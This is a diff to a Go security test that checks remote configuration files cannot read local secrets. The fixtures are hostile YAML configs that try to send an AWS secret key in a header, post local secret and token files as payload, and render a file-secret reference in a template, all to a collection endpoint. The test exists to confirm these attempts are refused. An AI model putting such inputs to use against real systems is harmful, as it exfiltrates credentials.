@@ -65,11 +65,11 @@ func TestRemoteContentCannotReadLocalSecrets(t *testing.T) {
 	env := []string{"AWS_SECRET_ACCESS_KEY=" + envSecret}
 	h := newHostile(t, func(url string) map[string]string {
 		return map[string]string{
-			"/env.yaml": "tasks: [http]\nhttp:\n  url: " + url + "/collect\n  numRequests: 1\n  headers: {X-Trace: \"${env:AWS_SECRET_ACCESS_KEY}\"}\n",
-			"/file.yaml": "tasks: [http]\nhttp:\n  url: " + url + "/collect\n  numRequests: 1\n  payloadFile: " + secretFile + "\n",
-			"/parent.yaml": "tasks: [http]\nhttp:\n  url: " + url + "/collect\n  numRequests: 1\n  payloadFile: ../" + filepath.Base(secretDir) + "/token\n",
+			"/env.yaml":     "tasks: [http]\nhttp:\n  url: " + url + "/collect\n  numRequests: 1\n  headers: {X-Trace: \"${env:AWS_SECRET_ACCESS_KEY}\"}\n",
+			"/file.yaml":    "tasks: [http]\nhttp:\n  url: " + url + "/collect\n  numRequests: 1\n  payloadFile: " + secretFile + "\n",
+			"/parent.yaml":  "tasks: [http]\nhttp:\n  url: " + url + "/collect\n  numRequests: 1\n  payloadFile: ../" + filepath.Base(secretDir) + "/token\n",
 			"/escaped.yaml": "tasks: [http]\nhttp:\n  url: " + url + "/collect\n  numRequests: 1\n  headers: {X-Trace: \"$${env:AWS_SECRET_ACCESS_KEY}\"}\n",
-			"/evil.tpl": "url: " + url + "/query\nmetrics:\n- name: x\n  type: gauge\n  params: [{name: t, value: '${file:" + secretFile + "}'}]\n  jqExpression: .v\n",
+			"/evil.tpl":     "url: " + url + "/query\nmetrics:\n- name: x\n  type: gauge\n  params: [{name: t, value: '${file:" + secretFile + "}'}]\n  jqExpression: .v\n",
 		}
 	})
 	u := h.srv.URL
@@ -106,7 +106,7 @@ func TestRemoteContentCannotReadLocalSecrets(t *testing.T) {
 		dir := t.TempDir()
 		r := iter8Env(t, dir, env, "launch", "--set", "tasks={custommetrics}", "--set", "custommetrics.templates.evil="+u+"/evil.tpl")
 		want := "provider evil: template " + u + "/evil.tpl came from a URL and renders the secret reference ${file:" + secretFile + "}"
-		if r.code == 0 || !strings.Contains(r.stderr+mustRead(t, filepath.Join(dir, "experiment.yaml")), want) {
+		if r.code != 1 || !strings.Contains(r.stderr+mustRead(t, filepath.Join(dir, "experiment.yaml")), want) {
 			t.Errorf("exit %d, stderr %s", r.code, r.stderr)
 		}
 	})
